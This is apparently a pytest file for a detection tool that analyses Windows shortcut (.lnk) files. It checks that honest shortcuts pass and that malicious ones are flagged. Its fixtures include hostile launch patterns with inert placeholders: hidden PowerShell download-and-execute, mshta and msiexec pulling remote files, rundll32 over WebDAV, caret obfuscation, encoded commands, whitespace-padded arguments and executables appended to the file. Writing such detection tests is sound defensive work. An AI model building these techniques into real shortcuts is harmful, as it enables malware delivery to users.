"""What the analyzer says about shortcuts: tricks that must be seen, honest ones that must be left alone."""

import base64
import random
import struct

import pytest

from emotriage import Level, scan
from emotriage.analyzers.lnk import ANALYZER
from emotriage.model.analyzer import Child, Subject
from emotriage.model.blob import Blob
from emotriage.model.errors import BudgetSpent
from emotriage.model.finding import Finding
from emotriage.model.indicator import Indicator
from emotriage.model.limits import MIB, Budget, Limits
from emotriage.testing import archive, executable, shortcut

SYSTEM = "C:\\Windows\\System32\\"
CMD = SYSTEM + "cmd.exe"
POWERSHELL = SYSTEM + r"WindowsPowerShell\v1.0\powershell.exe"
PROGRAM = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + b"emotriage-inert"


def run(data: bytes, **limits: int):
    blob = Blob(data)
    return list(ANALYZER.run(Subject(blob, "lnk", "a.lnk", Budget(Limits(**limits)))))


def findings(data: bytes) -> dict[str, Finding]:
    return {one.rule.removeprefix("lnk."): one for one in run(data) if isinstance(one, Finding)}


def indicators(data: bytes) -> set[tuple[str, str, str]]:
    return {(one.kind, one.value, one.origin) for one in run(data) if isinstance(one, Indicator)}


def children(data: bytes) -> dict[str, bytes]:
    found = (one for one in run(data) if isinstance(one, Child))
    return {one.name: one.content.read() if isinstance(one.content, Blob) else one.content for one in found}


@pytest.mark.parametrize(
    ("target", "arguments"),
    [
        (CMD, ""),
        (CMD, r'/k ""C:\Program Files (x86)\Tools\VC\vcvarsall.bat"" amd64'),
        (CMD, r'"/K" C:\Tools\Anaconda\Scripts\activate.bat C:\Tools\Anaconda'),
        (POWERSHELL, ""),
        (POWERSHELL, "-NoExit -NoLogo"),
        (
            POWERSHELL,
            "-ExecutionPolicy ByPass -NoExit -Command \"& 'C:\\Tools\\shell\\hook.ps1' ; activate 'C:\\Tools' \"",
        ),
        (POWERSHELL, r'-noe -c "&{Import-Module """C:\Tools\DevShell.dll"""; Enter-DevShell 12345678}"'),
        (SYSTEM + "rundll32.exe", "shell32.dll,ShowWelcomeCenter"),
        (SYSTEM + "control.exe", "/name Microsoft.Inert"),
        (SYSTEM + "mmc.exe", r"%windir%\system32\inert.msc"),
        (r"C:\Windows\hh.exe", r"ms-its:%windir%\Help\inert.chm::/html/a.htm"),
        (r"C:\Windows\explorer.exe", "shell:::{00000000-0000-0000-0000-000000000001}"),
        (r"C:\Program Files\Chrome\chrome.exe", "--profile-directory=Default --app=https://www.example.invalid/"),
        (r"C:\Program Files\Java\bin\javaw.exe", "-cp " + ";".join(rf"C:\Tools\lib\part{n}.jar" for n in range(60))),
        (r"\\fileserver\share\plan.xlsx", ""),
        (r"C:\Users\inert\AppData\Local\Programs\App\App.exe", "--silent"),
    ],
)
def test_honest_shortcuts_are_left_alone(target, arguments):
    verdict = scan(shortcut(target, arguments), name="a.lnk", plugins=[])
    assert verdict.level is Level.CLEAN, verdict.findings


@pytest.mark.parametrize(
    ("target", "arguments", "show"),
    [
        (CMD, "/c start emotriage-inert & exit", "minimized"),
        (CMD, "/c p^owers^hell -w hidden -enc ZQBtAG8AdAByAGkAYQBnAGUALQBpAG4AZQByAHQA", "normal"),
        (POWERSHELL, "-nop -w hidden -c iex(iwr http://files.invalid/a)", "normal"),
        (SYSTEM + "mshta.exe", "http://files.invalid/a.hta", "normal"),
        (SYSTEM + "conhost.exe", "--headless powershell emotriage-inert", "normal"),
        (SYSTEM + "rundll32.exe", r"\\198.51.100.7@80\share\emotriage-inert.dll,Run", "normal"),
        (SYSTEM + "wscript.exe", r"%TEMP%\emotriage-inert.js", "normal"),
        (SYSTEM + "msiexec.exe", "/q /i https://files.invalid/a.msi", "normal"),
        (r"C:\Windows\explorer.exe", r"\\files.invalid@SSL\DavWWWRoot\a & powershell emotriage-inert", "minimized"),
    ],
)
def test_bad_ones_are_not(target, arguments, show):
    assert scan(shortcut(target, arguments, show=show), name="a.lnk", plugins=[]).level >= Level.SUSPICIOUS


@pytest.mark.parametrize("blank", [" ", "\t", "\n", "\r\n", "\x0b", "\x0c", "\u00a0", "\u3000", "\u200b", "\u2800"])
def test_blanks_of_every_kind_push_arguments_out_of_sight(blank):
    found = findings(shortcut(CMD, "/c echo invoice" + blank * 300 + "& emotriage-inert"))["padded-arguments"]
    assert found.evidence[0].text == "/c echo invoice"
    assert found.evidence[1].text == "& emotriage-inert"
    assert found.evidence[1].offset is not None


def test_blanks_with_nothing_behind_them_hide_nothing():
    assert "padded-arguments" not in findings(shortcut(CMD, "/c echo" + " " * 500))


def test_thirty_one_thousand_blanks():
    found = findings(shortcut(CMD, " " * 31_000 + "/c emotriage-inert"))
    assert {"padded-arguments", "huge-arguments"} <= set(found)
    assert found["padded-arguments"].evidence[1].text == "/c emotriage-inert"


@pytest.mark.parametrize(
    ("length", "rule"),
    [
        (260, None),
        (261, "long-arguments"),
        (1024, "long-arguments"),
        (1025, "very-long-arguments"),
        (4096, "very-long-arguments"),
        (4097, "huge-arguments"),
    ],
)
def test_length_is_graded(length, rule):
    graded = {"long-arguments", "very-long-arguments", "huge-arguments"}
    found = findings(shortcut(CMD, "/k ".ljust(length, "a")))
    assert graded & set(found) == ({rule} if rule else set())


def test_length_alone_is_a_guess_where_no_script_host_is_near():
    assert findings(shortcut(arguments="a" * 2000))["very-long-arguments"].confidence < 0.5


def test_an_encoded_command_becomes_a_child_and_an_indicator():
    command = "iwr http://files.invalid/a -OutFile emotriage-inert"
    data = shortcut(POWERSHELL, "-e " + base64.b64encode(command.encode("utf-16-le")).decode())
    assert children(data) == {"encoded-command-0.ps1": command.encode()}
    assert ("command", command, "decoded") in indicators(data)
    assert ("url", "http://files.invalid/a", "decoded") in indicators(data)
    assert {"encoded-command", "download"} <= set(findings(data))


def test_the_command_is_an_indicator_as_it_stands_and_unfolded():
    data = shortcut(CMD, "/c em^otriage-inert")
    assert ("command", CMD + " /c em^otriage-inert", "literal") in indicators(data)
    assert ("command", CMD + " /c emotriage-inert", "decoded") in indicators(data)


def test_the_machine_is_an_indicator():
    found = indicators(shortcut(machine="inert-pc"))
    assert ("host", "inert-pc", "literal") in found
    assert ("mac", "02:00:5e:00:00:01", "literal") in found


def test_both_readings_are_looked_at():
    hidden = "/c powershell emotriage-inert".encode("utf-16-le")
    shifted = "A" * 260 + chr(len(hidden) // 2) + hidden.decode("utf-16-le")
    data = shortcut(CMD, "/k emotriage-inert", description=shifted)
    found = findings(data)
    assert {"two-readings", "program-in-arguments"} <= set(found)
    assert [one.text for one in found["two-readings"].evidence][1] == "/k emotriage-inert"


@pytest.mark.parametrize(
    ("payload", "kind"),
    [
        (PROGRAM, "Windows program"),
        (executable(), "program"),
        (archive({"a.txt": b"a"}), "ZIP archive"),
        (b"%PDF-1.4\n%%EOF", "PDF document"),
        (b"<hta:application id=a><script>emotriage-inert</script>", "HTML application"),
    ],
)
@pytest.mark.parametrize("padding", [0, 20, 5000])
def test_what_lies_behind_the_end_is_handed_on(payload, kind, padding):
    if payload == executable() and padding:
        payload = PROGRAM
    data = shortcut(CMD, overlay=bytes(padding) + payload + b"tail of the overlay")
    found = findings(data)
    assert kind in found["embedded-file"].evidence[0].text
    assert found["overlay"].evidence[0].offset is not None
    assert any(one.startswith(payload) for one in children(data).values())


@pytest.mark.parametrize("filler", ["zero", "byte", "periodic"])
def test_padding_before_the_payload_hides_nothing(filler):
    fill = {"zero": b"\0", "byte": b"A", "periodic": bytes(range(31))}[filler] * (3 * MIB // 31)
    script = b"@echo off\r\nset A=1\r\nif exist C:\\inert goto end\r\ncall emotriage-inert\r\n:end\r\n" * 40
    data = shortcut(CMD, overlay=fill + script)
    assert children(data)["overlay"].endswith(script)
    assert len(children(data)["overlay"]) < len(script) + 100
    assert "embedded-file" in findings(data)


def test_filler_alone_is_no_child():
    for fill in (bytes(5000), b"A" * 5000, bytes(range(31)) * 500):
        data = shortcut(overlay=fill)
        assert "overlay-filler" in findings(data)
        assert children(data) == {}


def test_a_program_in_an_unknown_block():
    block = struct.pack("<II", 8 + len(PROGRAM), 0xA00000FF) + PROGRAM
    data = shortcut(CMD, blocks=[block])
    assert "embedded-file" in findings(data)
    assert list(children(data).values()) == [PROGRAM]


def test_a_large_overlay_costs_budget():
    with pytest.raises(BudgetSpent):
        run(shortcut(overlay=random.Random(1).randbytes(2 * MIB)), work=MIB)


def test_damage_is_a_gap():
    for defect in ("item-past-list", "list-past-end", "link-info-offsets", "string-past-end", "block-past-end"):
        verdict = scan(shortcut(CMD, defect=defect), name="a.lnk", plugins=[])
        assert not verdict.complete
        assert verdict.level is Level.UNVERIFIED


def test_cut_shortcuts_are_never_clean():
    data = shortcut(CMD, "/k emotriage-inert")
    for length in range(0x4C, len(data) - 4, 3):
        found = findings(data[:length])
        assert found["damaged"].incomplete or "odd-structure" in found, length


@pytest.mark.parametrize(
    ("target", "arguments", "rule"),
    [
        (SYSTEM + "rundll32.exe", "inert.dll,Start", "beside-shortcut"),
        (CMD, "/c start inert.vbs & start explorer Photos & exit", "beside-shortcut"),
        (CMD, "/c inert\\inert.bat", "beside-shortcut"),
        (SYSTEM + "rundll32.exe", "C:\\Inert\\inert.dat,#1", "proxy-execution"),
        (SYSTEM + "mshta.exe", " " * 400 + "vbscript:Close()", "proxy-execution"),
        (CMD, "/c type inert.txt | cmd", "text-as-code"),
        (POWERSHELL, "-c \"&($env:comspec[4,26,25]-join'') 'echo inert'\"", "obfuscated-command"),
        (POWERSHELL, "\u2013w hidden \u2013c inert", "hidden-window"),
        ("C:\\Windows\\explorer.exe", "\\\\198.51.100.7@8080\\dav\\inert.exe", "remote-code"),
        (SYSTEM + "msiexec.exe", "/q /IhTtP://host.invalid/a", "download"),
        ("E:\\RECYCLER\\inert.exe", "", "unseen-folder"),
    ],
)
def test_ways_to_start_are_seen(target, arguments, rule):
    data = shortcut(target, arguments)
    assert rule in findings(data)
    assert scan(data, name="a.lnk", plugins=[]).level >= Level.SUSPICIOUS


@pytest.mark.parametrize(
    ("target", "arguments"),
    [
        (CMD, "/c start http://localhost:8080"),
        (CMD, '/c net use Z: "\\\\fileserver\\share"'),
        (CMD, '/k ""C:\\Program Files\\Inert\\vars.bat"" x86'),
        (POWERSHELL, '-WindowStyle Hidden -File "C:\\Program Files\\Inert\\tray.ps1"'),
        (POWERSHELL, "-ExecutionPolicy ByPass -NoExit -Command \"& 'C:\\ProgramData\\Inert\\shell\\bin\\hook.ps1'\""),
        (SYSTEM + "rundll32.exe", "shell32.dll,Control_RunDLL mmsys.cpl,,0"),
        (SYSTEM + "control.exe", "appwiz.cpl"),
        ("\\\\fileserver\\apps\\inert.exe", ""),
        ("C:\\Windows\\hh.exe", "inert.chm"),
    ],
)
def test_honest_ways_to_start_are_left_alone(target, arguments):
    assert scan(shortcut(target, arguments), name="a.lnk", plugins=[]).level is Level.CLEAN


def test_a_working_folder_says_where_a_bare_name_leads():
    installed = shortcut(CMD, "/c start inert.exe", working_dir="C:\\Program Files\\Inert")
    assert "beside-shortcut" not in findings(installed)


def test_filler_and_what_is_behind_it_are_both_told():
    found = findings(shortcut() + bytes(5000) + bytes(range(256)) * 40)
    assert {"overlay", "overlay-filler"} <= set(found)


def test_a_file_inside_of_a_known_block_is_found():
    from emotriage import scan

    body = b"x" * 100 + b"<hta:application id=a></hta:application>" + bytes(600)
    block = (len(body) + 8).to_bytes(4, "little") + (0xA0000009).to_bytes(4, "little") + body
    verdict = scan(shortcut(target="C:\\Windows\\notepad.exe", blocks=[block]), name="a.lnk", plugins=[])
    assert "lnk.embedded-file" in {one.rule for one in verdict.findings}
    assert len(verdict.artifacts) > 1


def test_targets_that_disagree_are_each_judged():
    """Windows takes the next place of the target where the first one leads nowhere."""
    data = shortcut(SYSTEM + "inert.exe", "C:\\Inert\\inert.dat,#1", environment=SYSTEM + "rundll32.exe")
    assert {"proxy-execution", "script-host", "targets-disagree"} <= set(findings(data))
    assert "proxy-execution" not in findings(shortcut(SYSTEM + "inert.exe", "C:\\Inert\\inert.dat,#1"))


def test_shortcuts_behind_shortcuts_do_not_double():
    """Each is handed out once, by whoever looks at what it lies in."""
    number = 10
    data = b"".join(shortcut() + b"\1\2\3\4" * 8 for _ in range(number))
    verdict = scan(data, name="a.lnk", plugins=[])
    assert len(verdict.artifacts) <= 3 * number
    assert verdict.gaps
